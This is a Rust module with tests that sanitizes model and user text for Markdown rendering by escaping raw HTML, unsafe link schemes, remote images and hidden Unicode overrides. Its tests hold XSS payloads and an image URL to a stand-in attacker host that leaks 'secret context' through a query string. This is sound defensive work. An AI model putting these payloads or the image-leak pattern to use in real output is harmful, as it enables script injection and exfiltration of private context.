//! Model and user text made inert for Markdown: whatever renders the
//! transcript (a previewer, a wiki, a static site) shows it as text and never
//! as raw HTML or a `javascript:` link.
//!
//! Outside code, `<` before a letter, `/`, `!` or `?` (every start of raw HTML
//! and of an autolink in CommonMark) is escaped as `\<`, and a link or link
//! definition whose destination is not plainly `http(s):`, `mailto:` or
//! relative loses its `]`, so it is no link at all. Code is left as written:
//! a fence this scanner opens is moved to the first column, where every
//! CommonMark renderer opens it too (indented, it could belong to a list item
//! the scanner does not track), and a fence left open is closed, so the
//! transcript's own headings after the text are never swallowed. Text inside
//! an indented code block or a list item's fence may show a backslash: the
//! price of never guessing in the unsafe direction.
//!
//! Applied to the whole rendered document, so it sees fences and code spans
//! as a renderer would; the document's own Markdown has no HTML and no links.

/// `text`, safe to place in a Markdown document as a block of its own.
pub fn text(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    let mut fence: Option<Fence> = None;
    for line in text.split_inclusive('\n') {
        match fence {
            Some(open) => {
                out.push_str(line);
                if open.closed_by(line) {
                    fence = None;
                }
            }
            None => match Fence::opened_by(line) {
                Some(open) => {
                    out.push_str(line.trim_start_matches(' '));
                    fence = Some(open);
                }
                None => inline(line, &mut out),
            },
        }
    }
    if let Some(open) = fence {
        if !out.ends_with('\n') {
            out.push('\n');
        }
        out.extend(std::iter::repeat_n(open.marker, open.len));
    }
    // Code included: an override reorders code on screen as well.
    match crate::hidden::reveal(&out) {
        std::borrow::Cow::Borrowed(_) => out,
        std::borrow::Cow::Owned(revealed) => revealed,
    }
}

/// An open fenced code block: its marker and how many of them opened it.
#[derive(Debug, Clone, Copy)]
struct Fence {
    marker: char,
    len: usize,
}

impl Fence {
    /// Up to three spaces (a tab makes four or more), then three or more
    /// backticks or tildes; a backtick fence's info string has no backtick.
    fn opened_by(line: &str) -> Option<Fence> {
        let rest = fence_indent(line)?;
        let marker = rest.chars().next().filter(|c| *c == '`' || *c == '~')?;
        let len = rest.chars().take_while(|c| *c == marker).count();
        let info = &rest[len..];
        (len >= 3 && !(marker == '`' && info.contains('`'))).then_some(Fence { marker, len })
    }

    /// Up to three spaces, at least as many markers, then only blanks.
    fn closed_by(self, line: &str) -> bool {
        let Some(rest) = fence_indent(line) else { return false };
        let len = rest.chars().take_while(|c| *c == self.marker).count();
        len >= self.len && rest[len..].trim_matches([' ', '\t', '\n', '\r']).is_empty()
    }
}

/// The line after at most three leading spaces, or `None` when it is indented more.
fn fence_indent(line: &str) -> Option<&str> {
    let spaces = line.len() - line.trim_start_matches(' ').len();
    let rest = &line[spaces..];
    (spaces <= 3 && !rest.starts_with('\t')).then_some(rest)
}

/// One line outside fenced code: code spans copied as they are, raw HTML and
/// unsafe link destinations made inert.
fn inline(line: &str, out: &mut String) {
    let bytes = line.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            // A backslash escape stays one: `\<` and `` \` `` are already literal.
            b'\\' if bytes.get(i + 1).is_some_and(u8::is_ascii_punctuation) => {
                out.push_str(&line[i..i + 2]);
                i += 2;
            }
            b'`' => {
                let run = bytes[i..].iter().take_while(|b| **b == b'`').count();
                match closing_run(&bytes[i + run..], run) {
                    Some(end) => {
                        let stop = i + run + end + run;
                        out.push_str(&line[i..stop]);
                        i = stop;
                    }
                    None => {
                        out.push_str(&line[i..i + run]);
                        i += run;
                    }
                }
            }
            b'<' if bytes.get(i + 1).is_some_and(|b| b.is_ascii_alphabetic() || b"/!?".contains(b)) => {
                out.push_str("\\<");
                i += 1;
            }
            // An image is loaded by whoever renders the page: its URL can
            // carry what the model read (`?q=<the context>`) to anyone. As
            // `\![alt](url)` it is a link, shown and followed only by choice.
            b'!' if bytes.get(i + 1) == Some(&b'[') => {
                out.push_str("\\!");
                i += 1;
            }
            b']' if matches!(bytes.get(i + 1), Some(b'(' | b':')) && !safe_destination(&line[i + 2..]) => {
                out.push_str("\\]");
                i += 1;
            }
            _ => {
                let next = line[i..].chars().next().map_or(1, char::len_utf8);
                out.push_str(&line[i..i + next]);
                i += next;
            }
        }
    }
}

/// Where a run of exactly `len` backticks starts in `rest`, if one does.
fn closing_run(rest: &[u8], len: usize) -> Option<usize> {
    let mut i = 0;
    while i < rest.len() {
        if rest[i] == b'`' {
            let run = rest[i..].iter().take_while(|b| **b == b'`').count();
            if run == len {
                return Some(i);
            }
            i += run;
        } else {
            i += 1;
        }
    }
    None
}

/// Whether a link destination (the text after `](` or `]:`) is plainly web,
/// mail or relative. Anything else — another scheme, an entity or escape that
/// could spell one, a destination on the next line — is not.
fn safe_destination(after: &str) -> bool {
    let dest = after.trim_start_matches([' ', '\t']);
    let dest = dest.strip_prefix('<').unwrap_or(dest);
    let end = dest.find([' ', '\t', '\n', '\r', ')', '>']).unwrap_or(dest.len());
    let dest = &dest[..end];
    if dest.is_empty() {
        return false;
    }
    let lower = dest.to_ascii_lowercase();
    if ["http://", "https://", "mailto:"].iter().any(|s| lower.starts_with(s)) {
        return true;
    }
    let head = &dest[..dest.find(['/', '?', '#']).unwrap_or(dest.len())];
    !head.contains([':', '&', '\\'])
}

#[cfg(test)]
mod tests {
    use super::text;

    #[test]
    fn raw_html_and_autolinks_are_escaped_outside_code() {
        assert_eq!(text("<script>alert(1)</script>"), "\\<script>alert(1)\\</script>");
        assert_eq!(text("<img src=x onerror=alert(1)>"), "\\<img src=x onerror=alert(1)>");
        assert_eq!(
            text("<!-- c --> <?php ?> <javascript:alert(1)>"),
            "\\<!-- c --> \\<?php ?> \\<javascript:alert(1)>"
        );
        assert_eq!(text("a < b, 3<4, \\<b> stays"), "a < b, 3<4, \\<b> stays");
        assert_eq!(text("use `Vec<String>` here"), "use `Vec<String>` here");
        assert_eq!(text("`` a`<b> ``"), "`` a`<b> ``");
        assert_eq!(text("`open <b>"), "`open \\<b>", "an unclosed span is no span");
    }

    #[test]
    fn unsafe_links_are_no_links() {
        assert_eq!(text("[x](javascript:alert(1))"), "[x\\](javascript:alert(1))");
        assert_eq!(text("[x]( JavaScript:alert(1))"), "[x\\]( JavaScript:alert(1))");
        assert_eq!(text("![i](data:text/html,x)"), "\\![i\\](data:text/html,x)");
        assert_eq!(text("[x](java&#115;cript:a)"), "[x\\](java&#115;cript:a)", "an entity could spell a scheme");
        assert_eq!(text("[x](\njavascript:a)"), "[x\\](\njavascript:a)", "a destination on the next line");
        assert_eq!(text("[r]: vbscript:x"), "[r\\]: vbscript:x");
        for safe in ["[x](https://example.com/a?b#c)", "[x](docs/a.md)", "[x](#top)", "[x](mailto:a@b.c)", "[r]: /p"] {
            assert_eq!(text(safe), safe);
        }
    }

    #[test]
    fn remote_images_become_links_and_hidden_characters_show() {
        let leak = "![chart](https://evil.example/p.png?q=the+secret+context)";
        assert_eq!(text(leak), format!("\\{leak}"), "a link to the image, never loaded");
        assert_eq!(text("![a][ref] and !\\[b]"), "\\![a][ref] and !\\[b]");
        assert_eq!(text("`![kept](x)`"), "`![kept](x)`", "code is code");
        assert_eq!(text("ok\u{202E}gnp.exe"), "ok[U+202E]gnp.exe");
        assert_eq!(text("```\nlet a = \"\u{2067}\";\n```"), "```\nlet a = \"[U+2067]\";\n```");
    }

    #[test]
    fn fenced_code_is_kept_and_never_left_open() {
        let code = "Before <b>\n```html\n<b>bold</b> [x](javascript:y)\n```\nafter <i>";
        assert_eq!(text(code), "Before \\<b>\n```html\n<b>bold</b> [x](javascript:y)\n```\nafter \\<i>");
        assert_eq!(text("  ~~~~\n<b>\n  ~~~~~\n<b>"), "~~~~\n<b>\n  ~~~~~\n\\<b>", "moved to column 1; closed");
        assert_eq!(text("```\n<b>"), "```\n<b>\n```", "closed at the end");
        assert_eq!(text("    ```\n<b>"), "    ```\n\\<b>", "indented four: not a fence");
        assert_eq!(text("``` a`b\n<b>"), "``` a`b\n\\<b>", "a backtick in the info string: not a fence");
    }

    #[test]
    fn a_list_items_fence_cannot_hide_html() {
        // Indented two, this fence would belong to the list item and end at the
        // unindented line, leaving the HTML raw; in column 1 it holds it as code.
        assert_eq!(text("- item\n\n  ```\n<script>"), "- item\n\n```\n<script>\n```");
        // And a list item's closing fence, seen as an opener here, moves to
        // column 1: there every renderer opens a fence too.
        assert_eq!(text("- ```\n  x\n  ```\n<b>\n```"), "- ```\n  x\n```\n<b>\n```");
    }
}
